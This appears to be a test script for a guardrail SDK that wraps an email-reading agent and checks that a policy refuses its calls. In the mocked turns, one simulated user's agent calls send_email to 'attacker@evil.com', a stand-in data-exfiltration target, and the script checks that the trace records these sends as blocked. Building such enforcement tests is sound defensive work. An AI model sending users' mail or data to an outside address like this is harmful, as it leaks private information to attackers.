import { guardTools, tracewardenTelemetry } from '@tracewarden/ai-sdk';
import { createTracer, parsePolicy, withTrace } from '@tracewarden/core';
import { emailAgent } from '@tracewarden/testing';
import { generateText, streamText, stepCountIs, tool } from 'ai';
import { z } from 'zod';
import { check, server, wrapped, providerFor, summary, warnings } from './lib.ts';
(globalThis as any).AI_SDK_LOG_WARNINGS = false;
const policy = parsePolicy(emailAgent.policy);
// Each conversation: who = alice|bob. Step 1 get_inbox (id call_0), step 2 send_email (id call_0!), step 3 text.
// alice's send goes to attacker (blocked), bob's goes to bob@acme.example (allowed).
const turnFn = (req: any) => {
  const msgs = req.body.messages as any[];
  const user = msgs.find((m) => m.role === 'user')?.content;
  const who = String(user).includes('alice') ? 'alice' : 'bob';
  const tools = msgs.filter((m) => m.role === 'tool').length;
  if (tools === 0) return { toolCalls: [{ id: 'call_0', name: 'get_inbox', arguments: {} }] };
  if (tools === 1) return { toolCalls: [{ id: 'call_0', name: 'send_email', arguments: { to: who === 'alice' ? 'attacker@evil.com' : 'bob@acme.example', subject: 's', body: `from ${who}` } }] };
  return { text: `done ${who}` };
};
for (const how of ['shared tracer', 'fallback (no tracer)', 'withTrace each', 'telemetry shared tracer', 'telemetry per-call tracer'] as const) for (const stream of [false, true]) {
  const srv = await server(turnFn, { chunkSize: 4, chunkDelayMs: 1 });
  const shared = createTracer();
  const own = { alice: createTracer(), bob: createTracer() };
  const sent: string[] = [];
  const tel = how.startsWith('telemetry');
  const mwOpts = how === 'shared tracer' ? { tracer: shared, policy, onPolicyViolation: 'refuse' } : { policy, onPolicyViolation: 'refuse' };
  const model = tel ? providerFor(srv.url)('gpt-4o-mini') : wrapped(srv.url, mwOpts);
  const endTracers: any[] = [];
  const integ = how === 'telemetry shared tracer' ? tracewardenTelemetry({ tracer: shared, policy, onPolicyViolation: 'refuse' }) : tracewardenTelemetry({ policy, onPolicyViolation: 'refuse', onTraceEnd: (t) => { endTracers.push(t); } });
  const mk = () => ({
    get_inbox: tool({ inputSchema: z.object({}), execute: async () => { await new Promise((r) => setTimeout(r, Math.random() * 5)); return emailAgent.inbox; } }),
    send_email: tool({ inputSchema: z.object({ to: z.string(), subject: z.string(), body: z.string() }), execute: async ({ to, body }) => { sent.push(`${to}:${body}`); return { sent: true }; } }),
  });
  const run = async (who: 'alice' | 'bob') => {
    const tools = tel ? mk() : guardTools(mk(), how === 'shared tracer' ? { tracer: shared } : {});
    const args: any = { model, tools, system: emailAgent.system, prompt: `I am ${who}. Summarize my inbox.`, stopWhen: stepCountIs(5), telemetry: tel ? { integrations: [integ] } : undefined };
    const go = async () => { if (!stream) return (await generateText(args)).text; const r = streamText(args); for await (const _ of r.fullStream) {} return await r.text; };
    return how === 'withTrace each' ? withTrace(own[who], go) : go();
  };
  let out = '';
  try { const [a, b] = await Promise.all([run('alice'), run('bob')]); out = `alice=${a} bob=${b}`; } catch (e: any) { out = `THREW ${e?.name} ${e?.message?.slice(0, 100)}`; }
  console.log(`\n##### ${how} stream=${stream}: ${out} sent=${JSON.stringify(sent)}`);
  const tracers = how === 'withTrace each' ? [own.alice, own.bob] : how === 'telemetry per-call tracer' ? endTracers : [shared];
  for (const t of tracers) {
    const { blocks } = check(`${how}/${stream}`, t, { quiet: true });
    if (how.includes('fallback')) continue;
    const assistants = blocks.filter((b: any) => b.sub_type === 'MESSAGE' && b.payload.role === 'assistant').length;
    const results = blocks.filter((b: any) => b.sub_type === 'TOOL_RESULT');
    const expectedA = tracers.length === 1 ? 6 : 3;
    const bad = results.filter((r: any) => { const call = blocks.find((b: any) => b.id === r.parent_block_id) as any; return call?.payload.name === 'send_email' && ((String(call.payload.arguments.to).includes('attacker')) !== (r.metadata.status !== 'success')); });
    console.log(`   assistant msgs=${assistants} (expect ${expectedA}); results=${results.length}; send_email results inconsistent with their call: ${bad.length}`);
    if (assistants !== expectedA || bad.length) console.log(summary(blocks));
  }
  await srv.close();
}
console.log('warnings', warnings);
